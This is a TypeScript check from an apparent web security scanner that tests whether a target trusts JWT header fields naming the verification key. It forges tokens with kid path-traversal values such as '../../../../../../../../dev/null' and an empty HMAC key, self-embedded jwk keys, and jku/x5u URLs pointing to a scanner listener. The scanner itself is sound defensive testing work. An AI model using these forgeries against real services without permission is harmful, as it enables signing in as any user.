import { makeKey, signHmac, signRsa } from '../../jwt/forge.ts';
import { type JwtCarrier, jwtCarrier } from '../../jwt/jwt-carrier.ts';
import { listenForKeyFetch } from '../../jwt/key-listener.ts';
import { type Check, fault, type Outcome, skipped } from '../check.ts';
import type { CheckContext } from '../context.ts';
import { isPlainLoopback } from '../cookie/session-cookie-check.ts';
import { withToken } from '../frozen.ts';
import { acceptsAnyKey } from './any-key.ts';
import { anySignature, type Forgery, refusedAll, verifyStrictly } from './jwt-check.ts';

export const jwtHeaderInjection: Check = {
  id: 'jwt.header-injection',
  title: 'The token itself says with which key to verify it',
  severity: 'critical',
  impact: 'Anybody who brings a key of their own writes tokens for any user',
  cwe: [347, 73, 22, 918],
  asvs: ['9.1.3'],
  wstg: 'WSTG-SESS-10',
  profile: 'full',
  needs: ['session', 'jwt'],
  sends:
    'Tokens whose header names a key: kid as a path to an empty file, jwk with the scanner’s key, and (to this machine only) jku and x5u at an address of the scanner.',
  proves: 'A token that the scanner signed is signed in, or the target fetched a key from the scanner’s address.',
  remedy: verifyStrictly,
  async run(context) {
    const carrier = await jwtCarrier(context);
    if (carrier === null) return skipped('the session does not travel in a JWT');
    if (await acceptsAnyKey(context, carrier)) return anySignature;
    const key = makeKey();
    await using listener = await listenForKeyFetch(key);
    const remote = isPlainLoopback(context) ? ['jku', 'x5u'] : [];
    const { jwt } = carrier;
    const signed = (header: Record<string, unknown>) =>
      signRsa(jwt, { typ: 'JWT', alg: 'RS256', kid: 'curfew-scan', ...header }, key);
    const forgeries: Forgery[] = [
      ...['/dev/null', '../../../../../../../../dev/null'].map((kid) => ({
        token: signHmac(jwt, { ...jwt.header, alg: 'HS256', kid }, ''),
        what: `with the kid ${kid} and an empty key`,
      })),
      { token: signed({ jwk: key.jwk }), what: 'with the key to verify it in its own header (jwk)' },
      ...remote.map((name) => ({
        token: signed({ [name]: listener.url }),
        what: `with ${name} at an address of the attacker`,
      })),
    ];
    for (const forgery of forgeries) {
      const outcome = await presentOne(context, carrier, { forgery, wasAsked: listener.wasAsked });
      if (outcome !== null) return outcome;
    }
    return refusedAll(context, carrier.holdings);
  },
};

async function presentOne(
  context: CheckContext,
  { carrier, holdings }: JwtCarrier,
  { forgery, wasAsked }: { readonly forgery: Forgery; readonly wasAsked: () => boolean },
): Promise<Outcome | null> {
  const replay = await context.replay(withToken(context, holdings, carrier, forgery.token));
  if (replay.verdict === 'signed-in') {
    context.trail.tell('attacker', `presents a token ${forgery.what}: signed in`, replay.exchange);
    return fault(`A token ${forgery.what} is accepted.`, carrier.name);
  }
  if (!wasAsked()) return null;
  context.trail.tell('attacker', `presents a token ${forgery.what}: the target fetched it`, replay.exchange);
  return fault(`The target fetches keys from where a token says: ${forgery.what}.`, carrier.name, {
    severity: 'high',
    because: 'so far it only fetches the key',
  });
}
